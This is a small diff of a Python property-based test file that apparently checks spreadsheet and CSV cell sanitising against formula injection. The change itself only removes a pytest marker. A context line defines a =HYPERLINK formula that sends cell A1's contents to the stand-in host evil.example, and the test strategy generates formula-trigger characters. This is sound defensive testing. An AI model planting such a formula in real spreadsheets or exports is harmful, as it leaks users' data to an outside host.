@@ -21,7 +21,6 @@ LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"]), max_size=8)
 
 
-@pytest.mark.once
 @given(CELLS, st.booleans(), st.sampled_from(["--", "=", "n/a", ""]))
 def test_a_cell_is_harmless_and_reads_as_it_did(cell: str, is_csv: bool, marker: str) -> None:
     options = ReadOptions({}, clear_marker=marker, is_csv=is_csv)
